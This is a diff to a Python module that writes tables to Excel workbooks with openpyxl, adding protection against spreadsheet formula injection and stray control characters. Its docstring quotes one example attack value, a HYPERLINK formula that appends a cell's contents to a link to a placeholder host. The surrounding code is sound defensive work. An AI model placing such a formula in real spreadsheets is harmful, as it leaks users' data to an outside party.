@@ -1,4 +1,9 @@
-"""Writing files people open elsewhere: Excel workbooks of tables, written whole or not at all."""
+"""Writing files people open elsewhere: Excel workbooks of tables, written whole or not at all.
+
+Every cell that holds text is written as text, never as a formula, whatever it starts with: a
+task title typed as `=HYPERLINK("http://x/?"&B2)` must show as those characters, not run
+(OWASP's CSV injection). Control characters XML cannot hold are replaced, not a crash.
+"""
 
 from __future__ import annotations
 
@@ -13,11 +18,14 @@ import pandas as pd
 from openpyxl.styles import Alignment, Font, PatternFill
 from openpyxl.utils import get_column_letter
 
+from wwlib.control_chars import printable
 from wwlib.errors import ValidationError, WorkbookError
 
 _SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")
 _HEADER_FILL = PatternFill("solid", fgColor="E2EFDA")  # the week's themes are green
 _WIDEST = 60  # characters; longer cells wrap
+# what Excel, LibreOffice or Sheets may read as the start of a formula when a cell is edited
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def write_sheets(sheets: dict[str, pd.DataFrame], path: str | Path, date_format: str) -> Path:
@@ -31,7 +39,8 @@ def write_sheets(sheets: dict[str, pd.DataFrame], path: str | Path, date_format:
     with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
         for name, frame in sheets.items():
             sheet = sheet_name(name, taken)
-            frame.to_excel(writer, sheet_name=sheet, index=False)
+            writable(frame).to_excel(writer, sheet_name=sheet, index=False)
+            keep_text(writer.sheets[sheet])
             _tidy(writer.sheets[sheet], frame, date_format)
     return write_whole(path, buffer.getvalue())
 
@@ -39,13 +48,39 @@ def write_sheets(sheets: dict[str, pd.DataFrame], path: str | Path, date_format:
 def sheet_name(name: str, taken: set[str] | None = None) -> str:
     """A name Excel accepts: at most 31 characters, none of []:*?/\\, not quoted, unique."""
     taken = set() if taken is None else taken
-    base = _SHEET_FORBIDDEN.sub("-", name).strip("'")[:31] or "Sheet1"
+    base = _SHEET_FORBIDDEN.sub("-", printable(name)).strip("'")[:31] or "Sheet1"
     candidate, number = base, 2
     while candidate.lower() in taken:
         suffix = f" ({number})"
         candidate, number = base[: 31 - len(suffix)] + suffix, number + 1
     taken.add(candidate.lower())
     return candidate
+
+
+def writable(frame: pd.DataFrame) -> pd.DataFrame:
+    """The frame with control characters in its text and headers replaced (U+FFFD).
+
+    openpyxl refuses them (`IllegalCharacterError`): the loader keeps them out of a cohort
+    folder, but text typed in the dashboard or imported may still hold one.
+    """
+    clean = frame.map(lambda v: printable(v) if isinstance(v, str) else v)
+    clean.columns = [printable(c) if isinstance(c, str) else c for c in frame.columns]
+    return clean
+
+
+def keep_text(sheet) -> None:
+    """Every cell of `sheet` holding text written as text, never evaluated as a formula.
+
+    openpyxl takes a str starting with '=' for a formula; an explicit string cell (`t="s"`,
+    written inline) is shown as typed. Text that starts like a formula also gets Excel's quote
+    prefix, so editing the cell in Excel keeps it text. Numbers and dates are left alone.
+    """
+    for row in sheet.iter_rows():
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
+                if cell.value.startswith(FORMULA_STARTS):
+                    cell.quotePrefix = True
 
 
 def _tidy(sheet, frame: pd.DataFrame, date_format: str) -> None:
